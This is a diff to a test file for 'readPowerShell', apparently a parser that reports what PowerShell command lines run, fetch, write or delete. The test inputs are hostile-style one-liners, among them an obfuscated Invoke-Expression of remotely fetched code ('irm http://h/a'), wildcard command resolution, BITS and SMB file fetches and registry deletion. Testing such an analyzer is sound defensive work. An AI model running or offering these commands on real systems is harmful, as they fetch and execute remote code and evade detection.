@@ -152,6 +152,8 @@ describe("readPowerShell: what runs, comes and goes", () => {
       ["fetches http://h/a", "writes C:\\a"],
     ],
     [". (gcm i*x) (irm http://h/a)", ["runs http://h/a"]],
+    ["& (gcm kiw*) http://h/a", ["C:\\Windows\\System32\\kiw*.exe http://h/a"]],
+    ["& (gcm kiwi.exe) /q", ["kiwi.exe /q"]],
     ["rp HKLM:\\SOFTWARE\\K -Name v; ri C:\\a.txt", ["Remove-ItemProperty delete hklm\\software\\k /v v"]],
     ["Start-BitsTransfer http://h/a C:\\a", ["fetches http://h/a", "writes C:\\a"]],
     ["Copy-Item \\\\h\\s\\x.dll C:\\x.dll", ["fetches \\\\h\\s\\x.dll", "writes C:\\x.dll"]],
